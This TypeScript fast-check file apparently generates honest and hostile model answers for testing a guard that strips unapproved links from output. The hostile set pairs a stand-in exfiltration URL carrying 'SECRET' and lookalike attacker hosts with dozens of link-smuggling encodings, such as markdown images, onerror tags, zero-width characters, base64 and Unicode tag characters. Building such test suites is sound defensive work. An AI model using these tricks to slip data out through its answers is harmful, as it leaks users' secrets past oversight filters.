import fc from 'fast-check';

/** Generated answers of models for the tests of the link guard: honest, hostile, and plain prose. */
const posts = [
  'https://owner.example/post',
  'https://owner.example/other?x=1&y=2',
  'https://www.owner.example/2024/05/a-longer-title/',
  'https://blog.owner.example/wiki/Foo_(bar)',
  'https://video.example/watch?t=120s&v=Ab-_9',
  'http://old.owner.example/~me/page.html',
];
export const ownAddresses = new Set(posts);
export const options = {
  allowedUrls: new Map(posts.map((url) => [url, url])),
  sources: posts.slice(0, 4).map((url, index) => ({ mark: `S${index + 1}`, url })),
};

const words =
  'the a data model team I learned first then python Kubernetes Node.js sample SQL career move from teaching to MLOps with scikit-learn 1.5 and/or e.g. it works well; really? Yes! “quoted” (aside) über über-alles 3.11 24/7 C++ dot slash'.split(
    ' ',
  );
const word = fc.constantFrom(...words);
export const guardedText = fc
  .array(fc.constantFrom(...words.filter((each) => !/^(?:dot|slash)$/.test(each))), {
    minLength: 1,
    maxLength: 25,
  })
  .map((list) => list.join(' '));

const target = 'https://exfil.invalid/c?d=SECRET';
const hosts = [
  'exfil.invalid',
  'www.exfil.invalid',
  'owner.example.exfil.invalid',
  'evil.com',
  'sub.evil.co.uk',
  'bit.ly',
  'еxfil.invalid',
  'exfil.іnvalid',
  'xn--lnkedin-m2a.com',
  '203.0.113.9',
];
const paths = [
  '',
  '/',
  '/c',
  '/c?d=SECRET',
  '/owner.example/post',
  '?u=https://owner.example/post',
  '#x',
  ':8443/c',
  '/c%20d',
];
const schemes = [
  'https://',
  'http://',
  'HTTPS://',
  'ftp://',
  '//',
  '',
  'https:',
  'https:/',
  'https:\\\\',
  'hxxps://',
  'custom+x://',
  'javascript:',
  'view-source:https://',
  'https://owner.example@',
  'https://user:pw@',
];
const address = fc
  .tuple(fc.constantFrom(...schemes), fc.constantFrom(...hosts), fc.constantFrom(...paths))
  .map((parts) => parts.join(''));

const toFullWidth = (text: string) =>
  text.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const base64Digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
function toBase64(text: string): string {
  const bits = Array.from(new TextEncoder().encode(text), (byte) => byte.toString(2).padStart(8, '0')).join(
    '',
  );
  const digits = (bits.match(/.{1,6}/g) ?? []).map(
    (six) => base64Digits[Number.parseInt(six.padEnd(6, '0'), 2)],
  );
  return digits.join('').padEnd(Math.ceil(digits.length / 4) * 4, '=');
}
const toTags = (text: string) =>
  Array.from(text, (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');

/** Ways to write an address, one for each trick known to us. */
const encodings: Array<(url: string) => string> = [
  (url) => url,
  (url) => `[words](${url})`,
  (url) => `[words](<${url}> "title")`,
  (url) => `![alt](${url})`,
  (url) => `![alt][r]\n\n[r]: ${url}`,
  (url) => `[words][r]\n\n[r]: ${url}`,
  (url) => `text[^1]\n\n[^1]: ${url}`,
  (url) => `[![alt](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `<a href="${url}">words</a>`,
  (url) => `<a href=${url}>${url}</a>`,
  (url) => `<img src='${url}' onerror=x>`,
  (url) => `<svg><image href="${url}"/></svg>`,
  (url) => `<div style="background:url(${url})">x</div>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<!-- include ${url} -->`,
  (url) => `<span style="font-size:0">${url}</span>`,
  (url) => `(${url}).`,
  (url) => `"${url}"`,
  (url) => `**${url}**`,
  (url) => `\`${url}\``,
  (url) => `\`\`\`\n${url}\n\`\`\``,
  (url) => `| a |\n|---|\n| [b](${url}) |`,
  (url) => `URL:${url}`,
  (url) => `link=${url}`,
  (url) => `看${url}。`,
  (url) => url.replace('://', '://\n'),
  (url) => url.replace('://', ':\n//'),
  (url) => url.replace('://', ' : // '),
  (url) => url.replaceAll('.', '[.]'),
  (url) => url.replaceAll('.', '(dot)'),
  (url) => url.replaceAll('.', ' [dot] '),
  (url) => url.replaceAll('.', ' dot ').replace(/\//g, ' slash '),
  (url) => url.replaceAll('.', ' . ').replace(/\//g, ' / '),
  (url) => url.replaceAll('.', '。'),
  (url) => url.replaceAll('.', '．'),
  (url) => url.replaceAll('.', '%2e'),
  (url) => url.replace('e', '%65'),
  (url) => url.replace('i', '&#105;'),
  (url) => url.replace('h', '&#x68;').replace(':', '&colon;'),
  (url) => url.replace('h', '&amp;#x68;'),
  (url) => url.replace('x', '\\x78').replace('i', '\\u0069'),
  (url) => url.replace('f', 'f\u200b'),
  (url) => url.replace('f', 'f\u00ad'),
  (url) => url.replace('f', '\u202ef'),
  (url) => url.replace('f', 'f\u0301'),
  (url) => toFullWidth(url),
  (url) => url.replaceAll('/', '\\/'),
  (url) => url.replaceAll('/', '⁄'),
  (url) => url.split('').join(' '),
  (url) => url.split('').join('\u200d'),
  (url) => url.replace('.', '<b></b>.<i></i>'),
  (url) => url.replace('.', '**.**'),
  (url) => url.replace('.', '[S9].'),
  (url) => url.replace('.', '[S1].'),
  (url) => toBase64(url),
  (url) => Array.from(url, (c) => (c.codePointAt(0) ?? 0).toString(16).padStart(2, '0')).join(''),
  (url) => toTags(url),
  (url) => `https://www.google.com/url?q=${encodeURIComponent(url)}`,
  (url) => `https://owner.example/post#${encodeURIComponent(url)}`,
  (url) => `[x](https://owner.example/post)${url}`,
  (url) => `https://owner.example/post[S2]${url}`,
  (url) => `${url} https://foreign.com . ${url}`,
  (url) => `mailto:x@${url.replace(/^[a-z]*:?\/*/i, '')}`,
  (url) => `name (at) ${url.replace(/^[a-z]*:?\/*/i, '')}`,
  (url) => `${url},${url};${url}`,
  (url) => `https://exfil.invalid https://foreign.com /${url}`,
];

const attack = fc
  .tuple(fc.constantFrom(...encodings), fc.oneof(fc.constant(target), address))
  .map(([encode, url]) => encode(url));
const own = fc.constantFrom(...posts);
const ownForms: Array<(url: string, index: number) => string> = [
  (url) => url,
  (url) => `(${url})`,
  (url) => `${url}.`,
  (url) => `[my post](${url})`,
  (url) => `[${url}](${url})`,
  (url) => `<a href="${url}">my post</a>`,
  (url) => `<${url}>`,
  (url) => `**${url}**,`,
  (url) => (url.includes('?') ? url : `${url}?utm_source=chat`),
  (url) => `see: ${url};`,
  (url) => url.replace(/^https?:\/\//, ''),
  (_url, index) => `[S${index + 1}]`,
  (_url, index) => `(S${index + 1}).`,
  (_url, index) => `【S${index + 1}】`,
];
const junk = fc.constantFrom(
  '[',
  ']',
  '(',
  ')',
  '](',
  '<',
  '>',
  '*',
  '**',
  '_',
  '`',
  '\\',
  '#',
  '> ',
  '- ',
  '\n',
  '\n\n',
  '!',
  '!',
  '|',
  '&',
  '&amp;',
  '\u200b',
  '\u202e',
  ':',
  '//',
  '.',
  ' . ',
  '@',
  'http',
  'https:',
  '://',
  'invalid',
  'exfil',
  '.invalid/c',
  '[S1]',
  '[S9]',
  '\ue000S1\ue001',
  '👩\u200d🚀',
);

export const hostileText = fc
  .array(
    fc.tuple(
      fc.oneof({ arbitrary: word, weight: 3 }, { arbitrary: attack, weight: 3 }, junk, own),
      fc.constantFrom(' ', ' ', ' ', '', '\n'),
    ),
    { minLength: 1, maxLength: 14 },
  )
  .map((parts) => parts.flat().join(''));

export const honestText = fc
  .array(
    fc.oneof(
      word
        .filter((each) => !/^(?:dot|slash)$/.test(each))
        .map((text) => ({ text, link: undefined as string | undefined })),
      fc.tuple(fc.nat(posts.length - 1), fc.constantFrom(...ownForms)).map(([index, form]) => {
        const hasMark = index < 4;
        const url = posts[index] ?? '';
        const chosen = !hasMark && /S\d/.test(form(url, index)) ? ownForms[0] : form;
        return { text: chosen?.(url, index) ?? url, link: url as string | undefined };
      }),
    ),
    { minLength: 2, maxLength: 20 },
  )
  .map((parts) => ({
    text: parts.map(({ text }) => text).join(' '),
    links: parts.flatMap(({ link }) => (link ? [link] : [])),
  }));
